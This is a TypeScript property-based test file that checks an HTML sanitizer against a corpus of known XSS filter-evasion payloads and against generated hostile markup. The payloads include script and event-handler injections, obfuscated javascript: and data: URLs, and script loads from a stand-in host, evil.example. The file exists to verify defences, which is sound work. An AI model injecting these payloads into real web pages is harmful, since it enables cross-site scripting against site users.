// @vitest-environment jsdom
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { loadSanitizer, type Sanitizer } from './sanitize';

// Every piece of server HTML goes through this one sanitizer (src/components/safe-html.tsx). Whatever comes
// out must hold no way to run code: no script-capable element, no event handler, no script or data address.

let sanitize: Sanitizer;
beforeAll(async () => {
  sanitize = await loadSanitizer();
});

// The markup as text (without Trusted Types, as in this DOM, the sanitizer's output already is a string).
const clean = (html: string) => String(sanitize(html, { tableLabel: 'Table', resolveUrl: (url) => url }));

const DANGEROUS_TAGS =
  'script, iframe, frame, frameset, object, embed, applet, form, input, button, textarea, select, link, meta, base, svg, math, template, noscript, style, portal';
const URL_ATTRIBUTES = [
  'href',
  'src',
  'xlink:href',
  'action',
  'formaction',
  'cite',
  'longdesc',
  'background',
  'poster',
  'data',
];

/** The problems a sanitized piece of HTML still has (none, when it is safe). */
function problems(output: string): string[] {
  const holder = document.createElement('div');
  holder.innerHTML = output;
  const found: string[] = [];
  holder.querySelectorAll(DANGEROUS_TAGS).forEach((el) => found.push(`<${el.tagName.toLowerCase()}>`));
  holder.querySelectorAll('*').forEach((el) => {
    for (const attribute of Array.from(el.attributes)) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith('on')) found.push(`${name}= on <${el.tagName.toLowerCase()}>`);
      if (name === 'style' || name === 'srcdoc' || name === 'srcset') found.push(`${name}=`);
      if (URL_ATTRIBUTES.includes(name)) {
        const value = [...attribute.value]
          .filter((c) => c.charCodeAt(0) > 0x20)
          .join('')
          .toLowerCase();
        if (/^(javascript|data|vbscript|livescript|file|blob):/.test(value))
          found.push(`${name}=${value.slice(0, 30)}`);
      }
    }
  });
  return found;
}

// Known vectors from public XSS cheat sheets and filter-evasion lists, each a different trick.
const CORPUS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert(1)`>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>',
  '<IMG SRC="jav\tascript:alert(1);">',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<IMG SRC="jav&#x0A;ascript:alert(1);">',
  '<IMG SRC=" &#14;  javascript:alert(1);">',
  '<SCRIPT/XSS SRC="//evil.example/x.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>',
  '<<SCRIPT>alert(1);//<</SCRIPT>',
  '<SCRIPT SRC=//evil.example/.j>',
  '<IMG SRC="javascript:alert(1)"',
  '<iframe src=//evil.example/ <',
  '</TITLE><SCRIPT>alert(1);</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
  '<BODY BACKGROUND="javascript:alert(1)">',
  '<IMG DYNSRC="javascript:alert(1)">',
  '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<BGSOUND SRC="javascript:alert(1);">',
  '<BR SIZE="&{alert(1)}">',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
  '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(1)">',
  '<TD BACKGROUND="javascript:alert(1)">',
  '<DIV STYLE="background-image: url(javascript:alert(1))">',
  '<DIV STYLE="width: expression(alert(1));">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="//evil.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv">',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="jav&#x41;script:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<base href="javascript:alert(1)//">',
  '<img src="x" srcset="javascript:alert(1) 1x">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<div id="x" tabindex="1" onfocus="alert(1)" autofocus>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<p style="x:expression(alert(1))">x</p>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
];

describe('the sanitizer against an XSS corpus', () => {
  it.each(CORPUS)('%s comes out harmless', (payload) => {
    expect(problems(clean(payload))).toEqual([]);
  });

  it('keeps what an operator legitimately writes', () => {
    const out = clean(
      '<p>Win <b>₱1,000</b> <a href="https://lottoph.example/rules">rules</a> <img src="promo/a.png" alt="Promo"></p>',
    );
    expect(out).toContain('<b>₱1,000</b>');
    expect(out).toContain('href="https://lottoph.example/rules"');
    expect(out).toContain('alt="Promo"');
  });
});

// Hostile HTML built from parts: any tag, any attribute (handlers included), any address with a dangerous
// scheme disguised by case, entities, control characters and spaces, nested and unclosed.
const scheme = fc
  .constantFrom(
    'javascript:',
    'data:text/html,',
    'vbscript:',
    'JaVaScRiPt:',
    'java\tscript:',
    'jav&#x09;ascript:',
    ' javascript:',
    '&#106;avascript:',
    'java\u0000script:',
    'data:image/svg+xml,',
  )
  .map((value) => `${value}alert(1)`);
const address = fc.oneof(
  scheme,
  fc.constantFrom('https://lottoph.example/x', '/promo/a.png', 'mailto:help@lottoph.example', '#top'),
);
const tag = fc.constantFrom(
  'a',
  'img',
  'div',
  'p',
  'script',
  'iframe',
  'svg',
  'math',
  'object',
  'embed',
  'form',
  'button',
  'input',
  'style',
  'table',
  'td',
  'video',
  'source',
  'details',
  'base',
  'link',
  'meta',
  'template',
  'noscript',
  'area',
  'image',
);
const attribute = fc.oneof(
  fc
    .tuple(
      fc.constantFrom(
        'href',
        'src',
        'xlink:href',
        'action',
        'formaction',
        'background',
        'poster',
        'data',
        'cite',
        'srcdoc',
        'srcset',
      ),
      address,
    )
    .map(([name, value]) => `${name}="${value}"`),
  fc
    .tuple(
      fc.constantFrom(
        'onerror',
        'onload',
        'onclick',
        'onmouseover',
        'onfocus',
        'ontoggle',
        'onbegin',
        'OnErRoR',
        'onanimationstart',
      ),
      fc.constant('alert(1)'),
    )
    .map(([name, value]) => `${name}=${value}`),
  fc.constantFrom('style="background:url(javascript:alert(1))"', 'title="x"', 'alt="y"', 'autofocus', 'open'),
);
const element: fc.Memo<string> = fc.memo((depth) =>
  fc
    .tuple(
      tag,
      fc.array(attribute, { maxLength: 3 }),
      depth > 1 ? fc.array(element(depth - 1), { maxLength: 2 }) : fc.constant([]),
      fc.boolean(),
    )
    .map(
      ([name, attributes, children, closed]) =>
        `<${name} ${attributes.join(' ')}>${children.join('')}${closed ? `</${name}>` : ''}`,
    ),
);

describe('the sanitizer against generated hostile HTML', () => {
  it('never lets a script, a handler or a script or data address through', () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(element(3), fc.string()), { maxLength: 4 }), (parts) => {
        const html = parts.join('');
        expect(problems(clean(html)), html).toEqual([]);
      }),
      // Each run sanitizes and re-parses in jsdom: 200 keep the property under a second on an idle core and
      // inside the test's time on a machine several times oversubscribed (400 once were not); the seed
      // changes every run, so the runs add up across runs of the suite.
      { numRuns: 200 },
    );
  });
});
